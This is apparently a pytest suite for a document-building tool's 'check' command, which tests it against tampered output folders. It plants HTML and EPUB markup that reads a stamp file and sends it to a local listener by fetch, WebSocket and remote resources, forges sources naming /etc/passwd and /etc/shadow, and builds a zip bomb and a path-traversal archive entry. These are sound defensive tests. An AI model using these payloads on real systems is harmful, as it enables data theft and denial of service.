"""Hostile output folders and ``briefpress check``: pages opened offline with no script
but briefpress's, stamps that name no usable source, tampered and oversized books.

Each test edits what a build wrote, as anyone who can write to the folder could, then
runs ``check`` end to end and asserts the safe outcome: nothing reached, one clear line,
exit 1, no traceback.
"""

from __future__ import annotations

import io
import json
import os
import re
import socket
import struct
import threading
import zipfile
import zlib
from pathlib import Path

import pytest

from briefpress import reading
from briefpress.cli import main
from conftest import BODY, RICH_SOURCE


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), stdout=out, stderr=err), out.getvalue(), err.getvalue()


def error_lines(err: str) -> list[str]:
    return [line for line in err.splitlines() if ": error: " in line]


def row(report: str, check: str) -> str:
    """The report's row for ``check`` (its name, state and detail, spaces squeezed)."""
    [found] = [line for line in report.splitlines() if line.split("  ")[1:2] == [check]]
    return " ".join(found.split())


# -- a listener on 127.0.0.1 that a hostile page would report to ---------------------------


class Listener:
    """A TCP server on 127.0.0.1 that records every connection made to it and what it got."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            connection.settimeout(2)
            try:
                data = connection.recv(4096)
            except OSError:
                data = b""
            self.received.append(data or b"(a connection, nothing sent)")
            connection.close()

    def close(self) -> None:
        self.server.close()


@pytest.fixture
def listener():
    found = Listener()
    yield found
    found.close()


def reporters(port: int) -> str:
    """Markup that sends the page's stamp, or at least a hit, to the listener every way a
    page can: scripts, a handler, images, a stylesheet, a frame, a preconnect, a socket."""
    to = f"http://127.0.0.1:{port}"
    return (
        "<script>fetch('.a.briefpress').then(r => r.text())"
        f".then(t => fetch('{to}/stamp?' + encodeURIComponent(t)))"
        f".catch(() => fetch('{to}/script'))</script>"
        f"<script>new WebSocket('ws://127.0.0.1:{port}/socket')</script>"
        f'<img src="{to}/img" alt="" />'
        f'<img src="missing.png" alt="" onerror="fetch(\'{to}/onerror\')" />'
        f'<link rel="stylesheet" href="{to}/style.css" />'
        f'<link rel="preconnect" href="{to}" />'
        f'<iframe src="{to}/frame" title="f"></iframe>'
    )


def plant(path: Path, markup: str, before: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert before in text
    path.write_text(text.replace(before, markup + before, 1), encoding="utf-8")


def rewrite(book: Path, change) -> None:
    """Rewrite the EPUB with ``change(name, data)`` applied to every member (None: drop it)."""
    with zipfile.ZipFile(book) as source:
        members = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(book, "w") as target:
        for info, data in members:
            changed = change(info.filename, data)
            if changed is not None:
                target.writestr(info, changed)


def chapter_of(book: Path) -> str:
    with zipfile.ZipFile(book) as archive:
        return next(n for n in archive.namelist() if n.endswith(".xhtml") and "original" in n)


# -- 1. pages are opened offline, with no script but briefpress's ------------------------------


@pytest.mark.slow
@pytest.mark.browser
def test_check_runs_no_script_but_its_own_and_reaches_nothing(tmp_path, article_file, listener):
    """A page in the folder that reads its stamp and reports it to a listener on
    127.0.0.1 (and a book chapter that tries the same): check runs it with JavaScript
    off, blocks every request, fails with one line per edition, and the listener hears
    nothing."""
    out = tmp_path / "out"
    assert run("build", str(article_file(BODY)), "-o", str(out), "--formats", "html,epub")[0] == 0
    folder = out / "a"
    plant(folder / "a.html", reporters(listener.port), "</body>")
    chapter = chapter_of(folder / "a.epub")
    rewrite(
        folder / "a.epub",
        lambda name, data: (
            data.replace(b"</body>", reporters(listener.port).encode() + b"</body>")
            if name == chapter
            else data
        ),
    )
    code, report, err = run("check", str(out), "--no-epubcheck")
    assert listener.received == []
    assert code == 1 and "Traceback" not in err and "internal error" not in err
    for edition in ("HTML", "EPUB"):
        scripts = row(report, f"{edition}: scripts")
        assert "FAIL" in scripts and "briefpress did not write" in scripts and "JavaScript off" in scripts
        outside = row(report, f"{edition}: self-contained")
        assert "FAIL" in outside and f"127.0.0.1:{listener.port}" in outside
    assert "skipped not run: Ace would run the book's scripts" in row(report, "EPUB: DAISY Ace")
    lines = error_lines(err)
    assert any("error: HTML: scripts: 3 that briefpress did not write" in line for line in lines)
    assert any("error: EPUB: scripts: 3 that briefpress did not write, first in EPUB/" in x for x in lines)
    assert any("error: Send to Kindle rules: " in line and "holds a <script>" in line for line in lines)


@pytest.mark.slow
@pytest.mark.browser
def test_daisy_ace_reaches_nothing_either(tmp_path, article_file, listener):
    """A chapter without script but with remote images, a preconnect and a frame: Ace runs
    on it, offline, and the listener hears nothing."""
    out = tmp_path / "out"
    assert run("build", str(article_file(BODY)), "-o", str(out), "--formats", "epub")[0] == 0
    book = out / "a" / "a.epub"
    to = f"http://127.0.0.1:{listener.port}"
    remote = (
        f'<img src="{to}/img" alt="" /><link rel="preconnect" href="{to}" />'
        f'<iframe src="{to}/frame" title="f"></iframe>'
    ).encode()
    chapter = chapter_of(book)
    rewrite(
        book, lambda name, data: data.replace(b"</body>", remote + b"</body>") if name == chapter else data
    )
    result = reading.ace(book)
    assert listener.received == []
    assert result.violations is not None


@pytest.mark.slow
@pytest.mark.browser
def test_an_untouched_page_runs_its_own_script_offline(tmp_path):
    """The page briefpress wrote keeps its reading controls when check opens it: views,
    the remembered choice, the fold and the notes in place all work, offline; and no
    other script may run in it (its policy allows that one alone)."""
    out = tmp_path / "out"
    assert run("build", str(RICH_SOURCE), "-o", str(out), "--formats", "html")[0] == 0
    folder = out / "rich"
    with reading.Browser(offline=True) as browser, reading.offline(folder, ["rich.html"]) as site:
        with browser.page(site.url("rich.html") + "?view=bilingual", width=1280) as page:
            assert page.locator(".page-controls").is_visible()
            assert page.evaluate("document.documentElement.dataset.view") == "bilingual"
            page.locator(".views button[data-view=translation]").click()
            assert page.evaluate("document.documentElement.dataset.view") == "translation"
            assert "view=translation" in page.url
            page.goto(site.url("rich.html"))  # no parameter: the choice was remembered
            assert (
                page.locator(".views button[aria-pressed=true]").get_attribute("data-view") == "translation"
            )
            page.locator(".views button[data-view=bilingual]").click()
            page.locator("button.fold").click()
            assert page.locator("button.fold").get_attribute("aria-pressed") == "true"
            page.locator("button.fold").click()
            page.locator("section#bilingual .trans a.noteref").first.click()
            assert page.locator(".note-popover").is_visible()
            page.evaluate(
                "() => { const s = document.createElement('script'); s.textContent = 'window.planted = 1';"
                " document.head.append(s); }"
            )
            assert page.evaluate("typeof window.planted") == "undefined"
        assert site.blocked == []
    code, report, err = run("check", str(out))
    assert (code, err) == (0, "")
    assert row(report, "HTML: scripts") == "HTML: scripts ok briefpress's own only, run offline"
    assert row(report, "HTML: self-contained").startswith("HTML: self-contained ok")


# -- 2. a stamp with no usable source is a failure --------------------------------------------


def forged_sources(tmp_path: Path) -> dict[str, object]:
    folder = tmp_path / "folder.md"
    folder.mkdir()
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    link = tmp_path / "link.md"
    link.symlink_to("/etc/passwd")
    return {
        "/etc/passwd": "not an article file",
        "/dev/zero": "not an article file",
        "relative/a.md": "not an absolute path",
        str(tmp_path / "gone.md"): "which is missing",
        str(folder): "which is not a regular file",
        str(fifo): "which is not a regular file",
        str(link): "a link",
        "": "names no source",
        None: "names no source",
        12: "names no source",
    }


def test_a_stamp_with_no_usable_source_fails(tmp_path, article_file):
    """Each source a stamp can be edited to name that a build could not have read or
    recorded: exit 1, one line naming the stamp and what to do, nothing opened."""
    out = tmp_path / "out"
    assert run("build", str(article_file(BODY)), "-o", str(out), "--formats", "epub")[0] == 0
    stamp = out / "a" / ".a.briefpress"
    data = json.loads(stamp.read_text())
    for forged, why in forged_sources(tmp_path).items():
        stamp.write_text(json.dumps({**data, "source": forged}))
        code, report, err = run("check", str(out), "--no-epubcheck", "--no-reading")
        assert code == 1, (forged, report)
        [line] = error_lines(err)
        assert line.startswith(f"{out / 'a'}: error: source: its stamp .a.briefpress "), line
        assert why in line and "rebuild the folder from its source with briefpress build" in line
        assert "(source: unknown)" in report and "root:" not in report + err
        assert report.rstrip().endswith("0 of 1 article(s) faithful to their sources")
    stamp.write_text(json.dumps({**data, "options": ["not", "options"]}))
    code, _, err = run("check", str(out), "--no-epubcheck", "--no-reading")
    assert code == 1 and "options are unreadable" in error_lines(err)[0]


def test_a_digest_stamp_with_one_unusable_source_fails(tmp_path, article_file):
    out = tmp_path / "out"
    first, second = article_file(BODY), article_file(BODY, name="b.md")
    assert run("build", str(first), str(second), "-o", str(out), "--formats", "epub", "--digest", "D")[0] == 0
    stamp = out / "digest" / ".digest.briefpress"
    data = json.loads(stamp.read_text())
    stamp.write_text(json.dumps({**data, "sources": [data["sources"][0], "/etc/shadow"]}))
    code, report, err = run("check", str(out), "--no-epubcheck", "--no-reading")
    assert code == 1
    [line] = [line for line in error_lines(err) if "digest" in line]
    assert "'/etc/shadow', not an article file" in line and "rebuild" in line


# -- 3. tampered and oversized books are one line ---------------------------------------------


def stored_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> None:
    """A ZIP written by hand from (name, bytes as stored, method, CRC, unpacked size), so
    that a member can hold a deflate stream made without deflating a gigabyte."""
    out, directory = bytearray(), bytearray()
    for name, data, method, crc, size in members:
        encoded, offset = name.encode(), len(out)
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data), size, len(encoded), 0
        )
        out += encoded + data
        directory += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        directory += encoded
    count = len(members)
    out += directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(out), 0)
    path.write_bytes(bytes(out))


def zeros_bomb(size: int = 2**30) -> tuple[bytes, int]:
    """A raw deflate stream of ``size`` zero bytes (about 1 MB for 1 GB) and its CRC."""
    chunk = bytes(2**20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)  # the same for every chunk
    crc = 0
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    return block * (size // len(chunk)) + deflate.flush(), crc


def bomb(book: Path) -> None:
    """The book with its original-text chapter replaced by 1 GB of zeros."""
    chapter = chapter_of(book)
    with zipfile.ZipFile(book) as source:
        members = [(i.filename, source.read(i)) for i in source.infolist()]
    stream, crc = zeros_bomb()
    stored_zip(
        book,
        [
            (name, stream, 8, crc, 2**30) if name == chapter else (name, data, 0, zlib.crc32(data), len(data))
            for name, data in members
        ],
    )


def many_members(book: Path) -> None:
    with zipfile.ZipFile(book, "a") as archive:
        for number in range(reading.MAX_MEMBERS + 1):
            archive.writestr(f"EPUB/x/{number}", b"")


def without(name: str):
    def change(book: Path) -> None:
        gone = chapter_of(book) if name == "chapter" else name
        rewrite(book, lambda member, data: None if member == gone else data)

    return change


def spine_names_nothing(book: Path) -> None:
    rewrite(
        book,
        lambda name, data: (
            re.sub(rb'idref="[^"]+"', b'idref="nowhere"', data) if name.endswith(".opf") else data
        ),
    )


def package_not_xml(book: Path) -> None:
    rewrite(book, lambda name, data: b"<package" if name.endswith(".opf") else data)


def named_outside(book: Path) -> None:
    with zipfile.ZipFile(book, "a") as archive:
        archive.writestr(zipfile.ZipInfo("../../escaped.txt"), b"x")


def not_a_zip(book: Path) -> None:
    book.write_bytes(b"%PDF-1.7 not a book\n" * 100)


TAMPERED = {
    "container.xml removed": (without("META-INF/container.xml"), "has no META-INF/container.xml"),
    "a chapter the package lists is gone": (without("chapter"), "which the book does not hold"),
    "the spine names what the manifest lacks": (spine_names_nothing, "which its manifest lacks"),
    "a zip bomb": (bomb, "unpacks to more than 256 MB"),
    "not a zip": (not_a_zip, "is not a ZIP archive"),
    "too many files": (many_members, "holds more than 10,000 files"),
    "a file named outside the book": (named_outside, "outside the book"),
    "the package is not XML": (package_not_xml, "is not well-formed XML"),
}


@pytest.fixture(scope="module")
def built_book(tmp_path_factory):
    from briefpress.build.steps import build
    from briefpress.errors import Report
    from briefpress.options import Options

    folder = tmp_path_factory.mktemp("book")
    source = folder / "a.md"
    source.write_text("---\ntitle: 测试文章\ndate: 2026-06-09\n---\n\n" + BODY, encoding="utf-8")
    assert build([source], Options(formats=("epub",), output=folder / "out"), Report()).ok
    return folder / "out"


@pytest.fixture
def inflated(monkeypatch):
    """How many bytes were inflated from any ZIP while the test ran."""
    counted = [0]
    real = zlib.decompressobj

    class Counting:
        def __init__(self, *args):
            self.inner = real(*args)

        def decompress(self, data, max_length=0):
            result = self.inner.decompress(data, max_length)
            counted[0] += len(result)
            return result

        def __getattr__(self, name):
            return getattr(self.inner, name)

    monkeypatch.setattr(zipfile.zlib, "decompressobj", Counting)
    return counted


@pytest.mark.parametrize("case", list(TAMPERED))
def test_a_tampered_or_oversized_book_is_one_line(case, built_book, tmp_path, inflated):
    """Each: exit 1, one line naming the book and what is wrong, no traceback, and at
    most a few MB read from it (a 1 GB member is refused by its declared size)."""
    import shutil

    out = tmp_path / "out"
    shutil.copytree(built_book, out)
    book = out / "a" / "a.epub"
    tamper, message = TAMPERED[case]
    tamper(book)
    code, report, err = run("check", str(out), "--no-reading")
    assert code == 1, report
    assert "Traceback" not in err and "internal error" not in err
    [line] = error_lines(err)
    assert f"error: EPUB: cannot be read: {book}: " in line and message in line, line
    assert re.search(r"\n  EPUB +FAIL +cannot be read: ", report)
    assert "EPUBCheck" not in report  # nothing else was given the book
    assert inflated[0] < 8 * 2**20


def test_a_sound_book_still_reads(built_book, inflated):
    book = built_book / "a" / "a.epub"
    opened = reading.open_book(book)
    assert opened.spine and opened.package.endswith(".opf")
    code, report, err = run("check", str(built_book), "--no-reading", "--no-epubcheck")
    assert (code, err) == (0, ""), report
    assert 0 < inflated[0] < 8 * 2**20
